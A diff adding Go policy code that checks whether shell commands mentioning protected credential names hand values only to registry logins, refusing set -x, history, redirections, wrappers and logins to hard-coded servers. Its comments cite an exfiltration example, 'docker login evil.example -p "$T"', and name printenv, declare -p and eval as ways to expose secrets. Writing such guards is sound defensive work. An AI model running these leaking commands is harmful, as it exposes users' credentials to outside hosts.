@@ -1,0 +1,229 @@
+package policy
+
+import (
+	"slices"
+	"strings"
+)
+
+// Where a credential's name goes. cred.mention refuses any mention of a
+// protected name; a mention is not a leak when the value only reaches the
+// program that needs it: expanded into the password option of a login
+// (docker login -p "$T"), printed by echo or printf straight into a login
+// that reads it on standard input (echo "$T" | docker login
+// --password-stdin), or named without a value by export. The login's
+// server must be its default or come from the environment. Anything else
+// in the input that names it, prints it (a redirection, tee, a second
+// echo, a comment) or shows the command lines run (set -x, history) keeps
+// the refusal; so does a wrapper (bash -c, sudo), which it does not read.
+
+// loginSpecs are the logins that take a credential in an option or on
+// standard input.
+var loginSpecs = []spec{
+	{path: "docker login", value: "pu", long: []string{"--password", "--username"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "podman login", value: "pu", long: []string{"--password", "--username", "--authfile"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "buildah login", value: "pu", long: []string{"--password", "--username", "--authfile"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "nerdctl login", value: "pu", long: []string{"--password", "--username"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "skopeo login", value: "pu", long: []string{"--password", "--username", "--authfile"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "helm registry login", value: "pu", long: []string{"--password", "--username"}, secret: []string{"-p", "--password"}, secretStdin: []string{"--password-stdin"}},
+	{path: "oras login", value: "pu", long: []string{"--password", "--username", "--identity-token"}, secret: []string{"-p", "--password", "--identity-token"}, secretStdin: []string{"--password-stdin", "--identity-token-stdin"}},
+	{path: "gh auth login", value: "hp", long: []string{"--hostname", "--git-protocol"}, secretStdin: []string{"--with-token"}},
+	{path: "glab auth login", value: "h", long: []string{"--hostname"}, secretStdin: []string{"--stdin"}},
+}
+
+// readsSecretStdin reports whether c reads a credential on standard input:
+// its spec says so, or it is given one of the options logins commonly use
+// for that.
+func readsSecretStdin(c *Command) bool {
+	if s, rest := lookupSpec(c); s != nil && len(s.secretStdin) > 0 {
+		return parseArgs(s, rest).has(s.secretStdin...)
+	}
+	for _, a := range c.Args {
+		if a.Value == "--password-stdin" || a.Value == "--with-token" || a.Value == "--token-stdin" {
+			return true
+		}
+	}
+	return false
+}
+
+// mentionsFlowSafely reports whether every mention of a protected name in
+// in is a use that hands the value only to the program that needs it.
+func mentionsFlowSafely(ctx *Context, in *Input) bool {
+	if !in.Grammar.IsPosix() || strings.Contains(in.Text, "\\") {
+		return false
+	}
+	for _, c := range in.Commands {
+		if showsCommandLines(c) {
+			return false
+		}
+	}
+	seen := map[string]bool{}
+	ok := false
+	safe := true
+	forEachName(in.Text, func(w string) {
+		if !safe || seen[w] || !IsProtected(ctx, w, false) {
+			return
+		}
+		seen[w] = true
+		covered := 0
+		for _, c := range in.Commands {
+			n := countName(c.Text, w)
+			if n == 0 {
+				continue
+			}
+			if !usesSafely(in, c, w) {
+				safe = false
+				return
+			}
+			covered += n
+		}
+		safe = covered == countName(in.Text, w)
+		ok = true
+	})
+	return ok && safe
+}
+
+// usesSafely reports whether command c uses the credential name only to
+// hand its value to a login, or names it without a value.
+func usesSafely(in *Input, c *Command, name string) bool {
+	if c.Dynamic || len(c.Wrappers) > 0 || len(c.Assigns) > 0 || !c.Word0.Literal {
+		return false
+	}
+	expansion := func(v string) bool { return v == "$"+name || v == "${"+name+"}" }
+	mentions := 0
+	for _, a := range c.Args {
+		mentions += countName(a.Value, name)
+	}
+	if mentions != countName(c.Text, name) {
+		return false // in a redirection, a heredoc, a comment
+	}
+	switch {
+	case c.Name == "export":
+		// export NAME: the value handed to the programs started later,
+		// nothing printed. (unset NAME takes it from them, and stays
+		// refused.)
+		for _, a := range c.Args {
+			if strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value, "p") {
+				return false
+			}
+			if countName(a.Value, name) > 0 && a.Value != name {
+				return false
+			}
+		}
+		return len(c.Redirs) == 0
+	case c.Name == "echo" || c.Name == "printf":
+		// The value printed only into a login's standard input.
+		if len(c.Redirs) > 0 {
+			return false
+		}
+		for i, a := range c.Args {
+			if countName(a.Value, name) > 0 && (!expansion(a.Value) || c.Name == "printf" && i == 0) {
+				return false
+			}
+		}
+		for _, o := range in.Commands {
+			for _, f := range o.Feeds {
+				if s, p, ok := loginFromEnv(o); f == c && ok && p.has(s.secretStdin...) {
+					return true
+				}
+			}
+		}
+		return false
+	}
+	s, p, ok := loginFromEnv(c)
+	if !ok {
+		return false
+	}
+	given := 0
+	for _, o := range p.opts {
+		if contains(s.secret, o.name) && expansion(o.value) {
+			given++
+		}
+	}
+	return given == mentions
+}
+
+// loginFromEnv returns the spec and parse of c when c is a login of
+// loginSpecs whose server is its default or comes from the environment
+// ($CI_REGISTRY): a destination the command's writer did not choose. A
+// server written out (docker login evil.example -p "$T") sends the
+// credential where the writer says, and stays refused.
+func loginFromEnv(c *Command) (*spec, parsed, bool) {
+	s, rest := lookupSpec(c)
+	if s == nil || len(s.secret)+len(s.secretStdin) == 0 {
+		return nil, parsed{}, false
+	}
+	p := parseArgs(s, rest)
+	for _, a := range p.operands {
+		if a.Literal {
+			return nil, parsed{}, false
+		}
+	}
+	for _, v := range p.values("--hostname", "-h") {
+		if !strings.HasPrefix(v, "$") {
+			return nil, parsed{}, false
+		}
+	}
+	return s, p, true
+}
+
+// showsCommandLines reports whether c prints the command lines the shell
+// runs, with their values (set -x) or as typed (history, fc -l).
+func showsCommandLines(c *Command) bool {
+	switch c.Name {
+	case "history", "fc":
+		return true
+	case "set", "shopt":
+		for _, a := range c.Args {
+			v := a.Value
+			if v == "xtrace" || v == "verbose" || len(v) > 1 && (v[0] == '-' || v[0] == '+') && v[1] != '-' && strings.ContainsAny(v[1:], "xv") {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// countName counts the occurrences of name as a whole word in text.
+func countName(text, name string) int {
+	n := 0
+	forEachName(text, func(w string) {
+		if w == name {
+			n++
+		}
+	})
+	return n
+}
+
+// namesOnlyPrinted reports whether the variable names ${!prefix*} lists
+// (expr) are only printed: no protected name starts with prefix, every
+// command holding it is an echo or printf whose output goes to the
+// terminal, and nothing in the input evaluates text. Names are not
+// values; a program reading them (printenv, xargs, declare -p, eval)
+// would print the values, and listing credentials' names is the first
+// step to reading them.
+func namesOnlyPrinted(ctx *Context, in *Input, expr, prefix string) bool {
+	if evaluates(in) {
+		return false
+	}
+	for _, n := range ProtectedNames(ctx) {
+		if strings.HasPrefix(n, prefix) {
+			return false
+		}
+	}
+	found := false
+	for _, c := range in.Commands {
+		if !strings.Contains(c.Text, expr) {
+			continue
+		}
+		if c.Name != "echo" && c.Name != "printf" || len(c.Wrappers) > 0 || len(c.Redirs) > 0 {
+			return false
+		}
+		for _, o := range in.Commands {
+			if slices.Contains(o.Feeds, c) {
+				return false
+			}
+		}
+		found = true
+	}
+	return found
+}
